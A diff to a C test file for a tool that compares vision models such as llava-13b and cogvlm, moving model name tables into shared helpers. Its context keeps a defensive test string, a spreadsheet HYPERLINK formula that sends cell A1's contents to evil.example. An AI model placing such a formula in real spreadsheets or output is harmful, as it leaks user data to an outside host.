@@ -24,10 +24,6 @@
 
 #define N_IMAGES 3
 
-static const char * const model_names[] = { "llava-13b", "fuyu-8b", "minigpt-4", "cogvlm" };
-static const char * const model_refs[] = {
-  "yorickvp/llava-13b", "lucataco/fuyu-8b", "daanelson/minigpt-4", "naklecha/cogvlm",
-};
 
 /* What a spreadsheet, a Markdown renderer and a browser must not run. */
 #define PROMPT_FORMULA  "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
@@ -231,7 +227,7 @@ compare_args (Fixture            *fixture,
   for (guint m = 0; m < n_models; m++)
     {
       g_ptr_array_add (args, (char *) "-m");
-      g_ptr_array_add (args, (char *) model_names[m]);
+      g_ptr_array_add (args, (char *) sq_test_model_names[m]);
     }
   for (guint i = 0; i < n_images; i++)
     {
@@ -252,25 +248,13 @@ compare_args (Fixture            *fixture,
   return args;
 }
 
-static const char *
-model_ref_for (const char *display_name)
-{
-  for (guint m = 0; m < G_N_ELEMENTS (model_names); m++)
-    {
-      if (g_str_equal (model_names[m], display_name))
-        return model_refs[m];
-    }
-
-  g_assert_not_reached ();
-}
-
 static char *
 expected_for (Fixture    *fixture,
               const char *model_name,
               const char *sha,
               const char *prompt)
 {
-  return sq_fake_replicate_expected_answer (fixture->oracle, model_ref_for (model_name), sha, prompt);
+  return sq_fake_replicate_expected_answer (fixture->oracle, sq_test_model_ref_for (model_name), sha, prompt);
 }
 
 static guint
